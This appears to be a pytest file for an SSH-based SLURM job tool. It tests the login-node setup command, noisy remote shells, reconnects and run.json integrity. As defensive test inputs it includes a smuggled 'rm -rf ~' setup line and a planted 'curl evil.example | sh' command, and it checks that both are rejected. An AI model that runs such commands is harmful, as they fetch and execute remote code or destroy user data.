"""orchc over SSH to login nodes of other shapes (compiler/run/ssh.py), each a real sshd on a loopback port
(tests/ssh/sshd.py) in front of the real test cluster: SLURM on PATH only after a `module load`-like step
(the site's `ssh.setup`), a remote shell that prints on start-up, a login node that goes away for a while.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ROOT, in_ci
from ssh import sshd as sshd_helper
from test_cluster import wait_for
from test_remote import cluster_and_redis, jobs_of, laptop, override, redis_recipe, remote_dir, server, sockets

from compiler.core.errors import ClusterError, OrchcError
from compiler.run import ssh as remote_module
from compiler.run.ssh import Connection, Target, site_target

__all__ = ["cluster_and_redis", "laptop", "remote_dir", "server", "sockets"]     # fixtures, used by name

pytestmark = pytest.mark.ssh

BARE_TOOLS = ("sh", "env", "mkdir", "rsync", "id", "cat", "printf")
SLURM_TOOLS = ("sbatch", "squeue", "scancel", "sacct")


def own_server(extra_config: str) -> sshd_helper.Server:
    problem = sshd_helper.problem()
    if problem:
        pytest.fail(f"CI=true but {problem}") if in_ci() else pytest.skip(problem)
    return sshd_helper.make_server(extra_config)


@pytest.fixture
def login_node(cluster_and_redis: None) -> Iterator[tuple[Path, sshd_helper.Server]]:
    """A login node stand-in whose PATH has no SLURM: `. FOLDER/modules/slurm` puts sbatch & co on it."""
    folder = Path(tempfile.mkdtemp(prefix="orchc-login-"))
    os.chmod(folder, 0o755)
    bare, slurm = folder / "bin", folder / "slurm" / "bin"
    for where, tools in ((bare, BARE_TOOLS), (slurm, SLURM_TOOLS)):
        where.mkdir(parents=True)
        for tool in tools:
            (where / tool).symlink_to(shutil.which(tool) or f"/usr/bin/{tool}")
    (folder / "modules").mkdir()
    (folder / "modules" / "slurm").write_text(f"PATH={slurm}:/usr/local/bin:/usr/bin:/bin; export PATH\n")
    for path in (folder / "slurm", folder / "modules", folder / "modules" / "slurm"):
        os.chmod(path, 0o755)
    server = own_server(f"SetEnv PATH={bare}\n")
    yield folder, server
    server.stop()
    shutil.rmtree(server.folder, ignore_errors=True)
    shutil.rmtree(folder, ignore_errors=True)


def profile_with(tmp_path: Path, ssh_block: str) -> Path:
    """A copy of sites/local.yaml with an ssh: block."""
    path = tmp_path / "site.yaml"
    path.write_text((ROOT / "sites" / "local.yaml").read_text() + ssh_block)
    return path


@pytest.mark.cluster
def test_ssh_setup_puts_sbatch_on_path_for_every_command(login_node, laptop, tmp_path, remote_dir):
    folder, server = login_node
    override(Path(laptop.env["XDG_CONFIG_HOME"]), server, remote_dir)
    (tmp_path / "r.yaml").write_text(redis_recipe(sshd_helper.free_port(), client=False))
    shown = f"{sshd_helper.USER}@127.0.0.1:{server.port}"

    refused = laptop("submit", "r.yaml", "--run-dir", "run", check=False)
    assert refused.returncode == 1, refused.stdout
    assert f"sbatch not found on PATH on {shown}" in refused.stderr and "ssh.setup" in refused.stderr, refused.stderr

    setup = f". {folder}/modules/slurm"
    profile_with(tmp_path, f"ssh:\n  setup: {setup}   # what `module load slurm` does there\n")
    laptop("submit", "r.yaml", "--site", "site.yaml", "--run-dir", "run")
    run_json = tmp_path / "run" / "run.json"
    record = json.loads(run_json.read_text())
    assert record["remote"]["setup"] == setup
    jobs = jobs_of(laptop, "run")            # squeue, after the setup
    assert jobs["redis"]["state"] not in ("?", "UNKNOWN"), jobs

    # the same run without its setup: status and cancel say which command is missing where
    record["remote"]["setup"] = ""
    run_json.write_text(json.dumps(record))
    for command in ("status", "cancel"):
        done = laptop(command, "run", check=False)
        assert done.returncode == 1, done.stdout
        assert f"squeue not found on PATH on {shown}" in done.stderr, (command, done.stderr)
    # a setup that fails is named as the cause, with the host (run.json vouched for again with this user's key)
    from compiler.run.runs import setup_hmac

    laptops_key = bytes.fromhex((Path(laptop.env["XDG_CONFIG_HOME"]) / "orchc" / "run-key").read_text().strip())
    vouched_for = record["remote"]["setup_hmac"]
    record["remote"]["setup"] = "module load slurm"
    record["remote"]["setup_hmac"] = setup_hmac(laptops_key, "module load slurm")
    run_json.write_text(json.dumps(record))
    done = laptop("status", "run", check=False)
    assert done.returncode == 1 and f"ssh.setup 'module load slurm' failed on {shown}" in done.stderr, done.stderr
    assert "module" in done.stderr and "not found" in done.stderr, done.stderr
    record["remote"]["setup"], record["remote"]["setup_hmac"] = setup, vouched_for
    run_json.write_text(json.dumps(record))
    assert "cancelled SLURM job(s)" in laptop("cancel", "run").stdout


def test_ssh_setup_output_does_not_reach_what_orchc_reads(server, sockets, tmp_path, monkeypatch):
    """What the setup prints goes to stderr: sbatch's job id, prepare's folder and rsync's stream stay clean."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    override(tmp_path / "config", server, "unused")
    target = Target("127.0.0.1", server.port, sshd_helper.USER, str(server.client_key), "unused",
                    tuple(server.options()), "local", "echo loading slurm; echo done")
    conn = Connection(target, 30)
    answer = conn.run(["printf", "%s", "1234"])
    assert answer.out == "1234" and "loading slurm" in answer.err, answer
    (tmp_path / "local").mkdir()
    (tmp_path / "local" / "f").write_text("x\n")
    folder = f"/home/{sshd_helper.USER}/orchc-setup-{os.getpid()}"
    try:
        conn.push(tmp_path / "local", folder)
        assert Path(folder, "f").read_text() == "x\n"
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_ssh_setup_is_one_line_of_printable_text(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    for variable in remote_module.ENV_KEYS.values():
        monkeypatch.delenv(variable, raising=False)
    profile = profile_with(tmp_path, 'ssh:\n  host: h\n  setup: "module load slurm\\nrm -rf ~"\n')
    line = len(profile.read_text().splitlines())
    with pytest.raises(OrchcError, match=rf"site\.yaml:{line}:10: error: .*setup"):
        site_target("local", str(profile))
    profile = profile_with(tmp_path, "ssh:\n  host: h\n  setup: module load slurm/23.02   # site's module\n")
    assert site_target("local", str(profile)).setup == "module load slurm/23.02"
    with pytest.raises(ClusterError, match="setup"):
        remote_module.check_target(Target("h", setup="a\x1bb"))


@pytest.mark.cluster
def test_a_missing_remote_run_folder_is_reported_as_missing(server, laptop, cluster_and_redis, tmp_path, remote_dir):
    override(Path(laptop.env["XDG_CONFIG_HOME"]), server, remote_dir)
    (tmp_path / "r.yaml").write_text(redis_recipe(sshd_helper.free_port(), client=False))
    laptop("submit", "r.yaml", "--run-dir", "run")
    laptop("cancel", "run")
    record = json.loads((tmp_path / "run" / "run.json").read_text())
    ids = ",".join(job["slurm_id"] for job in record["jobs"])
    # a job writes into its folder as it ends: the purge comes after
    wait_for(lambda: not subprocess.run(["squeue", "-h", "-j", ids], capture_output=True, text=True,
                                        timeout=30).stdout.strip(), 60, "the cancelled job to be gone")
    again = laptop("cancel", "run").stdout         # a run whose jobs have all ended: nothing is cancelled
    assert "cancelled" not in again and "nothing to cancel" in again, again
    folder = record["remote"]["run_dir"]
    shutil.rmtree(folder)                         # a purge on the login node
    for command in (("status", "run"), ("logs", "run"), ("results", "run")):
        done = laptop(*command, check=False)
        said = done.stderr.lower()
        assert "no such file or directory" in said and folder.lower() in said, (command, done.stderr)
        assert "broken pipe" not in said and "was closed" not in said, (command, done.stderr)


@pytest.mark.cluster
def test_a_remote_shell_that_prints_gets_rsyncs_hint(laptop, cluster_and_redis, tmp_path, remote_dir):
    """A login shell that prints on start-up (an `echo` in the remote .bashrc; here sshd's ForceCommand does it
    for this server alone) breaks rsync's protocol: the error passes on rsync's own hint."""
    noisy = own_server('ForceCommand echo "Welcome to the login node"; eval "$SSH_ORIGINAL_COMMAND"\n')
    try:
        override(Path(laptop.env["XDG_CONFIG_HOME"]), noisy, remote_dir)
        (tmp_path / "r.yaml").write_text(redis_recipe(sshd_helper.free_port(), client=False))
        done = laptop("submit", "r.yaml", "--run-dir", "run", check=False)
    finally:
        noisy.stop()
        shutil.rmtree(noisy.folder, ignore_errors=True)
    assert done.returncode == 1, done.stdout
    assert "protocol" in done.stderr and "is your shell clean?" in done.stderr, done.stderr
    assert "prints" in done.stderr and ".bashrc" in done.stderr, done.stderr


@pytest.mark.cluster
def test_watch_and_follow_wait_for_a_login_node_that_comes_back(laptop, cluster_and_redis, tmp_path, remote_dir):
    """sshd stops for a while mid-`status --watch` and mid-`logs -f`: both say they are trying again, go on when
    it is back, and end as usual when the job does."""
    own = own_server("")
    ids: list[str] = []
    processes: list[subprocess.Popen[str]] = []
    logs = [(tmp_path / f"{name}.out", tmp_path / f"{name}.err") for name in ("watch", "follow")]
    try:
        override(Path(laptop.env["XDG_CONFIG_HOME"]), own, remote_dir)
        (tmp_path / "r.yaml").write_text(redis_recipe(sshd_helper.free_port(), client=False))
        laptop("submit", "r.yaml", "--run-dir", "run")
        ids = [job["slurm_id"] for job in json.loads((tmp_path / "run" / "run.json").read_text())["jobs"]]
        for args, (out, err) in zip((("status", "run", "--watch", "--interval", "0.5"), ("logs", "run", "redis", "-f")),
                                    logs):
            processes.append(subprocess.Popen([sys.executable, "-m", "compiler", *args], cwd=tmp_path, env=laptop.env,
                                              stdout=out.open("w"), stderr=err.open("w"), text=True))
        time.sleep(3)
        own.stop()
        wait_for(lambda: all("trying again" in err.read_text() for _, err in logs), 60, "both to say they wait")
        time.sleep(5)
        assert all(process.poll() is None for process in processes), [err.read_text()[-2000:] for _, err in logs]
        own.start()
        wait_for(lambda: all("answers again" in err.read_text() for _, err in logs), 90, "both to go on")
        laptop("cancel", "run")
        for process in processes:
            process.wait(timeout=120)
    finally:
        for process in processes:
            if process.poll() is None:
                process.kill()
        own.stop()
        if ids:
            subprocess.run(["scancel", *ids], capture_output=True, timeout=30)
        shutil.rmtree(own.folder, ignore_errors=True)
    # the watch ends with the run's state (cancelled: exit 3, README "Running jobs"); logs -f ends with 0
    for process, (out, err), code in zip(processes, logs, (3, 0)):
        said = err.read_text()
        assert process.returncode == code, (out.read_text(), said)
        assert "trying again for up to 120 s" in said and "Traceback" not in said, said
    assert "CANCELLED" in logs[0][0].read_text()


def test_a_missing_key_file_is_reported_as_missing(server, laptop, tmp_path):
    override(Path(laptop.env["XDG_CONFIG_HOME"]), server, "x", key=tmp_path / "no-such-key")
    (tmp_path / "r.yaml").write_text(redis_recipe(sshd_helper.free_port(), client=False))
    done = laptop("submit", "r.yaml", "--run-dir", "run", check=False)
    assert done.returncode == 1 and done.stderr.count("orchc: error:") == 1, done.stderr
    assert f"{tmp_path / 'no-such-key'}" in done.stderr and "does not exist" in done.stderr, done.stderr
    assert "refused the login" not in done.stderr, done.stderr


@pytest.mark.cluster
def test_status_says_the_cause_once(laptop, cluster_and_redis, tmp_path, remote_dir):
    own = own_server("")
    ids: list[str] = []
    try:
        override(Path(laptop.env["XDG_CONFIG_HOME"]), own, remote_dir)
        (tmp_path / "r.yaml").write_text(redis_recipe(sshd_helper.free_port(), client=False))
        laptop("submit", "r.yaml", "--run-dir", "run")
        ids = [job["slurm_id"] for job in json.loads((tmp_path / "run" / "run.json").read_text())["jobs"]]
        own.stop()
        done = laptop("status", "run", check=False)
    finally:
        own.stop()
        if ids:
            subprocess.run(["scancel", *ids], capture_output=True, timeout=30)
        shutil.rmtree(own.folder, ignore_errors=True)
    assert done.returncode == 1, done.stdout
    said = [line for line in done.stderr.splitlines() if not line.startswith("orchc: ssh[")]
    assert len(said) == 1 and said[0].startswith("orchc: error:") and "refused the connection" in said[0], said


def test_disconnect_closes_the_master(server, laptop, monkeypatch):
    config = Path(laptop.env["XDG_CONFIG_HOME"])
    override(config, server, "unused")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    target = site_target("local", str(ROOT / "sites" / "local.yaml"))
    assert target is not None
    conn = Connection(target, 30)
    conn.connect()
    master = conn.master_pid
    assert master is not None and remote_module._alive(master)
    done = laptop("disconnect", "local")
    assert f"closed the ssh connection to {target.shown()}" in done.stdout, done.stdout
    wait_for(lambda: not remote_module._alive(master), 10, "the master to exit")
    assert "no open ssh connection" in laptop("disconnect", "local").stdout
    conn.master_pid = None
    conn.connect()                                      # every connection of orchc's, without a site
    master = conn.master_pid
    assert "closed 1 ssh connection(s)" in laptop("disconnect").stdout
    wait_for(lambda: not remote_module._alive(master), 10, "the master to exit")
    refused = laptop("disconnect", "nosuchsite", check=False)
    assert refused.returncode == 1 and "unknown site 'nosuchsite'" in refused.stderr, refused.stderr


def test_a_run_json_setup_runs_only_with_this_users_run_key(tmp_path):
    """run.json's remote.setup is a command for the login node: a run folder made elsewhere (or edited) must not
    bring one of its own, so it must carry an HMAC under this user's run key."""
    from compiler.run.runs import Run, parse_run

    target = Target("login.example", 22, "me", None, "/home/me/runs/r", (), "local", "module load slurm")
    run = Run(recipe="r", site="local", created="2026-01-01T00:00:00Z", run_dir=str(tmp_path / "r"),
              state="submitted", error=None, scheduler="slurm", jobs=(), remote=target)
    text = run.to_json()
    assert parse_run(text, "run.json").remote.setup == "module load slurm"
    planted = json.loads(text)
    planted["remote"]["setup"] = "curl evil.example | sh"
    with pytest.raises(ClusterError, match="remote setup is not vouched for by your run key"):
        parse_run(json.dumps(planted), "run.json")
    del planted["remote"]["setup_hmac"]
    with pytest.raises(ClusterError, match="remote setup is not vouched for"):
        parse_run(json.dumps(planted), "run.json")
